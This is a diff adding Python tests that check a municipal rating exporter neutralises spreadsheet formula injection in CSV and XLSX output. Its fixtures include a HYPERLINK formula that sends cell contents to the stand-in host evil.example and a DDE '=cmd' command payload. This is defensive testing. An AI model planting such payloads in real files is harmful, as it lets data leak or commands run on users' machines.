@@ -240,3 +240,39 @@ def test_write_files_names_and_formats(tmp_path):
     assert all(f.stat().st_size > 200 for f in files)
     with pytest.raises(KeyError):
         rating.write_files(sample_table(), tmp_path, formats=["pdf"])
+
+
+INJECTED = ('=HYPERLINK("http://evil.example/?x="&A1,"Кликни")', "+7(8332)64-00-00", "-2+3", "@SUM(A1:A9)")
+
+
+def injected_table() -> RatingTable:
+    return sample_table(
+        tuple(
+            row(i + 1, f"=cmd|'/c calc'!A{i}", name, 20 - i, 60, "-", None)
+            for i, name in enumerate(INJECTED)
+        )
+    )
+
+
+def test_names_that_look_like_formulas_reach_the_csv_as_text(tmp_path):
+    """Formula injection (OWASP "CSV injection"): a leading apostrophe keeps the text a text."""
+    path = rating.export_csv(injected_table(), tmp_path / "r.csv")
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+    assert [r["Муниципалитет"] for r in rows] == ["'" + name for name in INJECTED]
+    assert {r["Код муниципалитета"][:2] for r in rows} == {"'="}
+    assert {r["Динамика"] for r in rows} == {"-"}  # a lone dash is no formula and is published as is
+    assert [r["Место"] for r in rows] == ["1", "2", "3", "4"]
+
+
+def test_names_that_look_like_formulas_reach_the_xlsx_as_text(tmp_path):
+    import zipfile
+
+    path = rating.export_xlsx(injected_table(), tmp_path / "r.xlsx")
+    with zipfile.ZipFile(path) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert len(sheets) == 3 and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
+    wb = load_workbook(path)
+    names = [wb["Рейтинг"].cell(r, 2) for r in range(6, 10)]
+    assert [c.value for c in names] == list(INJECTED) and {c.data_type for c in names} == {"s"}
+    ids = [wb["Критерии"].cell(r, 10) for r in range(2, 6)]
+    assert all(c.value.startswith("=cmd|") and c.data_type == "s" for c in ids)
